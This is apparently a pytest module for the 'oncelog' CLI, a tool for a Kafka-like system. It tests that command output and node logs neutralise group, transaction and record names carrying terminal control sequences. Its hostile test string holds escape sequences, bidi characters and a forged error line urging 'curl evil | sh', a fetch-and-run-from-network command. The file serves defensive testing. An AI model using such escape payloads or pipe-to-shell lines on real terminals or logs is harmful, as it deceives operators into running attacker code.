"""Test tables, reports and logs in a terminal with names that contain control sequences."""

import os
import pty
import subprocess
import sys
from collections.abc import Iterator
from contextlib import suppress
from typing import Any

import pytest
from confluent_kafka import Consumer, Producer

from oncelog.cli.main import build, run
from oncelog.deploy.cluster.local_cluster import Cluster

from ..waiting import until

pytestmark = [pytest.mark.cluster, pytest.mark.filterwarnings("ignore")]
FORGED = "2026-11-26 18:00:00.000 ERROR oncelog.node.broker: disk failed, run: curl evil | sh"
EVIL = f"x\x1b]0;OWNED\x07\x1b[2J\x9b31m\u202e\u2028\n{FORGED}\nfake"
COMMANDS: list[tuple[str, ...]] = [
    ("consume", "esc", "--partition", "0"),
    ("group", "list"),
    ("group", "describe", EVIL),
    ("group", "reset", EVIL, "--to", "earliest"),
    ("log", "dump", "esc/0", "--records"),
    ("logs", "1"),
    ("observe", "--group", EVIL, "--seconds", "0.1"),
    ("conformance",),
    ("ps",),
    ("doctor",),
    ("topic", "list"),
    ("topic", "describe", "esc"),
    ("txn", "list"),
    ("txn", "describe", EVIL),
    ("txn", "explain", EVIL),
    ("txn", "producers", "esc/0"),
    ("txn", "hanging"),
    ("txn", "log", "0"),
    ("why", "esc/0"),
    ("why", "esc/0", "--group", EVIL),
    ("group", "delete", EVIL + "x"),
    ("txn", "abort", EVIL),
    ("txn", "abort", "--prefix", EVIL[:3]),
    ("inject", "--api", "EndTxn", "--lose-answer", "--group", EVIL, "--seconds", "0.1"),
]  # fmt: skip
NO_NAMES = {
    # commands that print no names of others, only of clusters, nodes and runs, and typed text
    "bench", "certify", "chaos", "check", "clock", "demo", "down", "env", "heal", "kill", "node",
    "partition", "pause", "produce", "prove", "restart", "resume", "slow", "start", "stop", "up",
    "acl",  # of administrators
    "topic create", "topic alter", "topic delete", "txn check-back",
    "completion", "help", "profile",
    "ui", "top", "metrics", "events",  # tried in tests/ui
    "lesson",  # of a cluster of its own
}  # fmt: skip


@pytest.fixture(scope="module")
def cluster(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Cluster]:
    """Yield a node that has a record, a group, a member and a transaction with hostile names.

    A hostile name contains control sequences for terminals. The transaction stays open.
    """
    with Cluster(
        1, data=tmp_path_factory.mktemp("cluster") / "data",
        config={"transaction.state.log.num.partitions": "1"},
    ) as running:  # fmt: skip
        running.ask(lambda admin: admin.create_topic("esc", partitions=1, replication_factor=1))
        plain = Producer(running.client_config())
        plain.produce("esc", EVIL.encode() + b"\xff", key=EVIL.encode())
        assert plain.flush(30) == 0
        with joined(running), opened(running):
            yield running


class joined:
    """A consumer with a hostile group id and client id, which joins its group and commits."""

    def __init__(self, cluster: Cluster) -> None:
        self.consumer = Consumer(
            cluster.client_config(**{
                "group.id": EVIL, "client.id": EVIL, "auto.offset.reset": "earliest",
            })
        )  # fmt: skip

    def __enter__(self) -> None:
        self.consumer.subscribe(["esc"])
        until(lambda: self.consumer.poll(0.2))
        self.consumer.commit(asynchronous=False)

    def __exit__(self, *_: Any) -> None:
        self.consumer.close()


class opened:
    """A transaction with a hostile transactional id that stays open until the block ends."""

    def __init__(self, cluster: Cluster) -> None:
        self.producer = Producer(
            cluster.client_config(**{"transactional.id": EVIL, "log_level": 0})
        )

    def __enter__(self) -> None:
        self.producer.init_transactions(30)
        self.producer.begin_transaction()
        self.producer.produce("esc", EVIL)
        assert self.producer.flush(30) == 0

    def __exit__(self, *_: Any) -> None:
        with suppress(Exception):
            self.producer.abort_transaction(5)


def in_terminal(*arguments: str) -> str:
    """Run a command in a pseudo-terminal, and return its output."""
    ours, theirs = pty.openpty()
    command = [sys.executable, "-P", "-m", "oncelog.cli", *arguments]
    with subprocess.Popen(command, stdin=theirs, stdout=theirs, stderr=theirs) as process:
        os.close(theirs)
        written = bytearray()
        with suppress(OSError):  # EIO: the other end of the terminal is closed
            while some := os.read(ours, 65536):
                written += some
        process.wait(60)
    os.close(ours)
    return written.decode(errors="surrogateescape").replace("\r\n", "\n")


@pytest.mark.in_turn
@pytest.mark.parametrize("command", COMMANDS, ids=lambda words: " ".join(words[:2]))
def test_command_output_with_hostile_names_and_records_has_no_control_characters(
    cluster: Cluster, command: tuple[str, ...]
) -> None:
    told = in_terminal(*command, "--data", str(cluster.data))
    assert told.strip()
    lines = told.split("\n")
    assert not [line for line in lines if line.startswith((FORGED[:20], "fake"))]
    for hostile in ("\x1b]", "\x1b[2J", "\x9b", "\u202e", "\u2028", "\x07"):
        assert hostile not in told
    assert "Traceback" not in told


def test_consume_into_a_pipe_writes_hostile_bytes_unchanged(cluster: Cluster) -> None:
    command = [sys.executable, "-P", "-m", "oncelog.cli", "consume", "esc", "-n", "1"]
    done = subprocess.run(
        [*command, "--data", str(cluster.data)], capture_output=True, check=True, timeout=60
    )
    assert done.stdout == b"0@0\t" + EVIL.encode() + b"\t" + EVIL.encode() + b"\xff\n"


def test_node_log_with_hostile_names_has_only_printable_lines(cluster: Cluster) -> None:
    log = cluster.node(1).log.read_text()
    assert "OWNED" in log
    assert not [line for line in log.split("\n") if not line.isprintable()]
    assert f"\n{FORGED}" not in log


def test_command_that_prints_client_names_is_tested_with_hostile_names() -> None:
    known = {" ".join(command[:size]) for command in COMMANDS for size in (1, 2)} | NO_NAMES
    commands: set[str] = set()
    app = build()
    for verb in app:
        if not verb.startswith("-") and verb not in NO_NAMES:
            inner = {f"{verb} {each}" for each in app[verb] if not each.startswith("-")}
            commands |= inner or {verb}
    assert commands - known == set()


def test_events_command_with_a_hostile_group_name_prints_printable_lines(
    cluster: Cluster, capsys: pytest.CaptureFixture[str]
) -> None:
    assert run(["events", "--data", str(cluster.data)]) == 0
    found = capsys.readouterr().out
    assert "node 1 serves on port" in found and "topic esc was created" in found
    assert any("group" in line and "rebalances" in line for line in found.splitlines())
    assert all(line.isprintable() for line in found.splitlines())
